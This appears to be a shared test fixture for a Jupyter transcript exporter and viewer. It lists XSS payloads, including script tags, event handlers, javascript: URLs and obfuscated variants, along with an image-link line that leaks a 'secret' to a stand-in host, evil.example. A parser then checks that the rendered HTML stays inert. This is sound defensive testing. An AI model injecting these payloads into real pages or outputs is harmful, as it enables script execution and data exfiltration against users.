"""A transcript to render and the checks that what is rendered cannot run: shared by the
export's transcript tests (tests/test_export_transcript.py) and the live view's
(tests/jupyter/test_view_transcript.py), which must both stay inert on the same payloads."""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser

from mibyan_jupyter.core.messages import (
    AssistantMessage,
    FunctionCall,
    ImagePart,
    ImageUrl,
    Message,
    TextPart,
    Thinking,
    ToolCall,
    ToolMessage,
    Usage,
    UserMessage,
)

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x01" * 40).decode()
KEY = "sk-live-" + "k3Y" * 9

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![i](javascript:alert(1))",
    '<a href="javascript:alert(1)">a</a>',
    "<a href='jav&#x09;ascript:alert(1)'>t</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<style>body{display:none}</style>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<object data=javascript:alert(1)></object><base href=javascript:alert(1)//>",
    "<a href=x onmouseover=alert(1)>hover</a>",
    "```html\n<script>alert(1)</script>\n```",
    "<div style=\"background:url('javascript:alert(1)')\">s</div>",
    "![leak](https://evil.example/?q=secret) <img src=https://evil.example/pixel.png>",
]
CORPUS = "\n\n".join(XSS)

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form", "base"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}


class Inert(HTMLParser):
    """Collects everything in an HTML text that could run: forbidden elements, event
    handler attributes, script URLs, data: URLs other than validated PNGs, inline styles
    with url()."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style" and "url(" in value.lower():
                self.problems.append(f"{tag} style url()")
            if name in URL_ATTRIBUTES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                if re.match(r"(java|vb)script:", plain):
                    self.problems.append(f"{tag} {name}={value}")
                if plain.startswith("data:") and not re.fullmatch(
                    r"data:image/png;base64,[a-z0-9+/]+=*", plain
                ):
                    self.problems.append(f"{tag} {name}=data:")


def assert_inert(html: str) -> None:
    parser = Inert()
    parser.feed(html)
    parser.close()
    assert parser.problems == []
    assert "<script" not in html.lower()


def conversation(extra: str = "") -> list[Message]:
    """A run with thinking, Python with outputs (stream, image, error), another tool with a
    long result, an unanswered call, and ``extra`` text everywhere model or tool text goes."""
    code = f"import matplotlib.pyplot as plt\nplt.plot([1, 2])\nprint('hi')  # {extra}"
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": f"hi {extra}\n"},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": "<Figure>"}},
        {"output_type": "display_data", "data": {"text/html": f"<b>table</b>{extra}"}},
        {"output_type": "display_data", "data": {"image/png": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}},
        {"output_type": "error", "ename": "ValueError", "evalue": f"bad {extra}", "traceback": []},
    ]
    return [
        UserMessage(content=f"Plot **x** {extra}"),
        AssistantMessage(
            content=f"I'll plot it. {extra}",
            thinking=(Thinking(text=f"consider the axes {extra}"),),
            tool_calls=(
                ToolCall(id="c1", function=FunctionCall(name="run_python", arguments=_json(code))),
            ),
            usage=Usage(input=100, output=20, total=120, cost=0.0012),
        ),
        ToolMessage(
            tool_call_id="c1",
            name="run_python",
            content="hi",
            details={"outputs": outputs, "private": "not exported"},
        ),
        AssistantMessage(
            content="",
            tool_calls=(
                ToolCall(
                    id="c2",
                    function=FunctionCall(name="search", arguments=_json(f"q {extra}", "q")),
                ),
                ToolCall(id="c3", function=FunctionCall(name="write_file", arguments="{}")),
            ),
            usage=Usage(input=200, output=10, total=210, cost=0.002),
        ),
        ToolMessage(
            tool_call_id="c2",
            name="search",
            content=(
                TextPart(text=f"{extra}" + "y" * 3000),
                ImagePart(image_url=ImageUrl(url="javascript:alert(1)")),
            ),
        ),
        AssistantMessage(content=f"Done. {extra}", usage=Usage(input=300, output=5, total=305)),
    ]


def _json(value: str, key: str = "code") -> str:
    return json.dumps({key: value})
